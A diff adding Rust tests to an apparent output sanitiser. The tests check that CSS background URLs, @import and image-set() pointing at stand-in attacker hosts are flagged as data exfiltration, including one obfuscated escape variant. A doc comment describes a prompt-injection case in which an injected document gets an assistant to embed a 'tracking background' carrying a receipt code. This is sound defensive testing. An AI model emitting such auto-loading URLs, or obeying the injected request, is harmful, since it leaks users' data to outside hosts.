@@ -712,6 +712,12 @@ fn adversarial_inputs_stay_linear() {
         "[a]: x\n".repeat(10_000) + "![a]".repeat(10_000).as_str(),
         "```\n".repeat(20_000),
         "<svg>".repeat(20_000),
+        format!(
+            "<p style=\"{}\">",
+            "background:url(https://a.example/x?d=1) ".repeat(20_000)
+        ),
+        format!("<style>{}", "url(\"".repeat(40_000)),
+        "<p style='url(".repeat(20_000),
     ];
     let start = std::time::Instant::now();
     for t in &inputs {
@@ -785,6 +791,63 @@ fn denied_hosts_count_every_live_url_and_no_prose() {
             kinds_with(inert, &o).is_empty(),
             "{inert}: {:?}",
             kinds_with(inert, &o)
+        );
+    }
+}
+
+/// CSS fetches what `url()`, `@import` and `image-set()` name as soon as the rule applies:
+/// a background image in a `style` attribute is an auto-loading image. The first reply is
+/// what an assistant writes when an injected document asks it to "add our tracking
+/// background" to an HTML receipt.
+#[test]
+fn css_urls_in_style_attributes_and_blocks_are_resources() {
+    let reply = "Here is your receipt:\n\n<div class=\"receipt\">\n  <p style=\"background-image:url(https://img.attacker.example/p.gif?s=GNTC-7Q4X-M2RK-91ZB)\">Thank you for your order!</p>\n  <p>Total: 45 EUR</p>\n</div>";
+    let denied = MarkupOptions {
+        denied_hosts: vec!["attacker.example".into()],
+        ..opts()
+    };
+    assert!(
+        kinds_with(reply, &denied).contains(&DeniedHost),
+        "{:?}",
+        kinds_with(reply, &denied)
+    );
+    // Without the attacker's domain named, the data on the URL still makes it exfiltration.
+    assert_eq!(kinds(reply), [HtmlImageExfil]);
+    for live in [
+        "<div style='background: url(\"https://attacker.example/bg.png\")'>x</div>",
+        "<style>body { background: url('https://img.attacker.example/t.png') }</style>",
+        "<style>@import \"https://attacker.example/theme.css\";</style>",
+        "<span style=\"content: image-set('https://attacker.example/a.png' 1x)\">x</span>",
+        "<p style=\"background:url(&quot;https://attacker.example/x.gif&quot;)\">x</p>",
+        "<p style=\"background:u\\72l(https://attacker.example/x.gif)\">x</p>",
+        "<style>\n.logo{background-image:url(https://cdn.attacker.example/l.png)}",
+    ] {
+        assert!(
+            kinds_with(live, &denied).contains(&DeniedHost),
+            "{live}: {:?}",
+            kinds_with(live, &denied)
+        );
+    }
+    assert_finds(
+        "<style>.x{background:url(https://evil.example/c.gif?d=hunter2)}</style>",
+        HtmlImageExfil,
+    );
+    // Inert: CSS shown as text, same-site and allowed images, plain outside images.
+    let allowed = MarkupOptions {
+        allowed_hosts: vec!["acme.example".into()],
+        ..denied.clone()
+    };
+    for inert in [
+        "To set a background, write `background: url(https://attacker.example/x.gif?d=1)`.",
+        "<div style=\"background: url(/img/bg.png?v=2)\">x</div>",
+        "<p style=\"background:url(https://cdn.acme.example/bg.png?token=abc)\">x</p>",
+        "<style>body { background: url(https://example.com/bg.png) }</style>",
+        "```html\n<p style=\"background:url(https://attacker.example/p.gif?s=1)\">x</p>\n```",
+    ] {
+        assert!(
+            kinds_with(inert, &allowed).is_empty(),
+            "{inert}: {:?}",
+            kinds_with(inert, &allowed)
         );
     }
 }
